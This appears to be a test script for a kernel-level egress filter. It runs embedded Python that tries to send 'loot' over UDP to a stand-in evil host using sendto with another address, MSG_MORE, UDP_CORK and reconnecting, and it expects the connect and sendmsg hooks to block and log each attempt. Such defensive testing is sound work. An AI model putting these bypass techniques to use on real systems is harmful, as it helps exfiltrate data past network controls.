#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: connects UDP to an allowed host and sends elsewhere: with another address in the call, by MSG_MORE and UDP_CORK, by a new connect
# stopped-by: connect4, connect6, sendmsg4, sendmsg6
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena udp/9000

attack_by <<'PYTHON'
from attacker import *

UDP_CORK, MSG_MORE = 1, 0x8000

for good, evil, family in (GOOD4, EVIL4, "4"), (GOOD6, EVIL6, "6"):
    with attempt("address"):
        sock = udp(good)
        sock.connect((good, 9000))
        for _ in range(300):
            sock.send(b"so far all right")
        sock.sendto(loot("address" + family), (evil, 9000))
    with attempt("more, to the evil host first"):
        sock = udp(good)
        sock.connect((good, 9000))
        sock.sendto(loot("first" + family), MSG_MORE, (evil, 9000))
        sock.sendto(b"and this", (good, 9000))
    with attempt("more, connected meanwhile"):
        sock = udp(good)
        sock.sendto(loot("meanwhile" + family), MSG_MORE, (evil, 9000))
        sock.connect((evil, 9000))
        sock.send(b"and this")
    with attempt("cork"):
        sock = udp(good)
        sock.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 1)
        sock.sendto(loot("cork" + family), (evil, 9000))
        sock.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 0)
    with attempt("a new connect"):
        sock = udp(good)
        sock.connect((good, 9000))
        sock.connect((evil, 9000))
        sock.send(loot("connect" + family))
PYTHON
works stolen:{address,first,meanwhile,cork,connect}{4,6}
gate
stopped
recorded connect4 destination
recorded connect6 destination
recorded sendmsg4 destination
recorded sendmsg6 destination
